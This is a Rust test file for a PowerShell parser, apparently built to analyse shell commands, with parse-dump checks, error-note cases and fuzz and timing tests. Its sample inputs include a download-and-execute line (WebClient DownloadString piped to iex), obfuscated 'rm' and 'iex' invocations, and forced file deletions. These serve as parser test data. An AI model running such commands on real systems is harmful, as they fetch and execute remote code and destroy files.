use super::*;
use crate::syntax::dump::dump;

#[track_caller]
fn check(line: &str, want: &str) {
    let parsed = parse(line, Limits::default());
    assert_eq!(dump(&parsed.program), want, "{line}");
    assert!(parsed.notes.is_empty(), "{line}: {:?}", parsed.notes);
}

#[test]
fn commands_and_their_words() {
    check(
        r"Get-ChildItem -Path C:\x -Recurse | Remove-Item -Force",
        r"(Get-ChildItem -Path C:\x -Recurse) | (Remove-Item -Force)",
    );
    check(
        r#"& ("r"+'m') $env:TEMP\x, "a $($b.c) `"q`"" > out.txt 2>&1"#,
        r#"(& $[(= (+ "r" 'm'))] [${env:TEMP}\x "a $[(= (.c ${b}))] "q""] [> out.txt] [2>& 1])"#,
    );
    check("a -b:$x -c -d:1 > o e", "(a -b:${x} -c -d:1 e [> o])");
    check("f @s --% /s \"q\" %TEMP%", "(f (@ ${s}) /s q %TEMP%)");
    check("i`ex 'x'; g\"ci\" a", "(iex 'x') (g\"ci\" a)");
    check("cmd /c \"a\" && b || c &", "(cmd /c \"a\") && (b) || (c) &");
    check("a |\n b\n| c; d", "(a) | (b) | (c) (d)");
    check("a `\n -b # c", "(a -b)");
    check("a $x.y[0]/z (1).b {c} {}", "(a (at (.y ${x}) 0)/z (.b $[(= 1)]) λ{(c)} λ{})");
    check("git log HEAD~1..HEAD stash@", "(git log HEAD~1..HEAD stash@)");
    check("a\u{2013}b \u{2013}c \u{201C}d\u{201D}", "(a\u{2013}b -c \"d\")");
}

#[test]
fn expressions() {
    check(
        "$x = [char[]](105,101,120) -join ''; . $x",
        "(${x} = (= (-join (to char[] $[(= [105 101 120])]) ''))) (. ${x})",
    );
    check(
        r"[IO.File]::Delete('C:\x'); (New-Object Net.WebClient).DownloadString('http://x/y') | iex",
        r"(= (::Delete() <IO.File> 'C:\x')) (= (.DownloadString() $[(New-Object Net.WebClient)] 'http://x/y')) | (iex)",
    );
    check(
        "'a'+'b'+\"c\" -f 1,2 -replace 'x','y' -eq 3 -and !$true",
        "(= (-and (-eq (-replace (+ (+ 'a' 'b') (-f \"c\" [1 2])) ['x' 'y']) 3) (! ${true})))",
    );
    check("-join ('a','b')[1,0]", "(= (-join (at $[(= ['a' 'b'])] [1 0])))");
    check("'{0}' -f 'm' -ceq 1..3", "(= (-eq (-f '{0}' 'm') (.. 1 3)))");
    check("@{a=1; 'b'=\"x\"}; @(1); ,1", "(= {a: $[(= 1)], 'b': $[(= \"x\")]}) (= @[(= 1)]) (= (, 1))");
    check("$a?.b; $b ? 1 : 2; {a}.Invoke()", "(= (.b ${a})) (= (: (? ${b} 1) 2)) (= (.Invoke() λ{(a)}))");
    check(
        "$env:PATH += ';x'; ${a b}; $a,$b = 1,2",
        "(${env:PATH} += (= ';x')) (= ${a b}) ([${a} ${b}] = (= [1 2]))",
    );
    check("'it''s' + \"`$x\" + 0x1F + 10mb", "(= (+ (+ (+ 'it's' \"$x\") 0x1F) 10mb))");
    check("@'\nhello\n'@ | iex; @\"\n$x\n\"@", "(= 'hello') | (iex) (= \"${x}\")");
}

#[test]
fn statements() {
    check(
        "if ($a -eq 1) { ls } elseif ($b) { rm x } else { 'no' }",
        "(if [(= (-eq ${a} 1)) then (ls)] [(= ${b}) then (rm x)] [else (= 'no')])",
    );
    check(
        "foreach ($i in 1..3) { $i } 1..3 | % { ri $_ }",
        "(for i in [$[(= (.. 1 3))]] do (= ${i})) (= (.. 1 3)) | (% λ{(ri ${_})})",
    );
    check("try { a } catch [x] { b } finally { c }", "(try (a) [(b)] [(c)])");
    check("switch ($x) { 'a' { b } default { c } }", "(case $[(= ${x})] ['a': (b) ;;&] [default: (c) ;;&])");
    check(
        "do { a } until ($x); while(1){c}; return 1",
        "(until (= ${x}) do (a)) (while (= 1) do (c)) (group (= 1))",
    );
    check(
        "for ($i=0; $i -lt 3; $i++) { b }",
        "(for (($[(${i} = (= 0))]$[(= (-lt ${i} 3))]$[(= (++ ${i}))])) do (b))",
    );
    check("function F-B([string]$p='x', $q) { rm $p }", "(fn F-B (= λ p='x' q{(rm ${p})}))");
    check("{ param($a) begin { b } process { c } }", "(= λ a{(group (b)) (group (c))})");
    check("class A { [int]$x = 1; [void] M() { rm x } }", "(fn A (= λ{(= 1) (rm x)}))");
    check("$x = if (1) { 2 }; trap { a }", "(${x} = (if [(= 1) then (= 2)])) (try  [(a)])");
}

#[test]
fn what_is_open_or_misplaced_is_noted() {
    let kinds =
        |line: &str| parse(line, Limits::default()).notes.iter().map(|note| note.kind).collect::<Vec<_>>();
    for line in ["a 'b", "a |", "$x =", "if (", "{", "@{a=", "\"$(", "@'\nx", "1 +", "f(", "$x[", "a >", "<#"]
    {
        assert!(kinds(line).contains(&NoteKind::Unfinished), "{line}");
    }
    for line in ["a )", "}", "'a' b", "$x y"] {
        assert_eq!(kinds(line)[0], NoteKind::Unexpected, "{line}");
    }
    let deep = "(".repeat(100);
    assert!(kinds(&deep).contains(&NoteKind::TooDeep));
    let long = "a;".repeat(40_000);
    assert!(kinds(&long).contains(&NoteKind::TooLong));
}

/// Lines of every construct, for the tests that cut and mix them.
const LINES: &[&str] = &[
    "& ('r'+\"m\") -Path:$x,@{a=1;b=@(1,2)} -b {param($q=1) $q.z[0]::Y($w, 3)} 2>&1 | % { $_ } > o",
    "if (!$a) {b} elseif (-not $c) {d} else {e}; switch -regex ($x) {'a' {1} {$_ -gt 2} {3}}",
    "function F([int]$a = (1+2)) { try { throw 'x' } catch [A],[B] {} finally { return } }",
    "@\"\na $(b \"c\") ${d e} `n\n\"@ -split ',' -join '' -f 1,2,3 ? 'y' : 'n'",
    "class A : B { [int] $x = 5; A() { $this.x = 1 } }; enum E { a; b }; <# c #> #d",
    "for ($i=0;$i -lt 9;$i++) { $x += [char]([int]'1' + 0x20) }; 1..9kb | ?{$_%2}; \u{2013}join \u{2018}a\u{2019}",
];

#[test]
fn any_prefix_and_any_mixture_is_read() {
    let mut seed = 7u64;
    let mut next = |below: usize| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (seed >> 33) as usize % below.max(1)
    };
    let read = |text: &str| {
        let parsed = parse(text, Limits::default());
        assert!(parsed.understood() <= text.len());
        assert!(parsed.program.span.end <= text.len());
        for note in &parsed.notes {
            assert!(note.span.end <= text.len(), "{text}");
        }
        dump(&parsed.program)
    };
    for line in LINES {
        for (at, _) in line.char_indices() {
            read(&line[..at]);
            read(&line[at..]);
        }
    }
    for _ in 0..3_000 {
        let mut mixed = String::new();
        for _ in 0..6 {
            let letters: Vec<char> = LINES[next(LINES.len())].chars().collect();
            let from = next(letters.len());
            mixed.extend(letters.iter().skip(from).take(next(24)));
        }
        read(&mixed);
    }
}

#[test]
fn hostile_lines_stay_linear_and_shallow() {
    for piece in [
        "(",
        "{",
        "[",
        "$(",
        "\"$(",
        "@{a=",
        "@(",
        "!",
        "-not ",
        "[x]",
        "$x.",
        "$x.a",
        ".a",
        "[0]",
        "+1",
        ",1",
        "a|",
        "|",
        "&",
        "a;",
        "`",
        "if(1){",
        "function f{",
        "{param(",
        "'",
        "\"",
        "@'\n",
        "<#",
        "#",
        "1..",
        "-f",
        "class a{",
        "switch(1){",
        "a,b ",
        "::a(",
        "$x=",
        "return ",
        "% {",
        "$a?",
        "1?1:",
        "try{",
        "\n|",
        ">",
        "2>&1",
        "--%",
        "@a ",
        "-a:",
        "$",
        "${",
    ] {
        let text = piece.repeat(64 * 1024 / piece.len());
        let start = std::time::Instant::now();
        let parsed = parse(&text, Limits::default());
        assert!(start.elapsed().as_secs() < 5, "{piece} takes {:?}", start.elapsed());
        drop(parsed);
    }
}
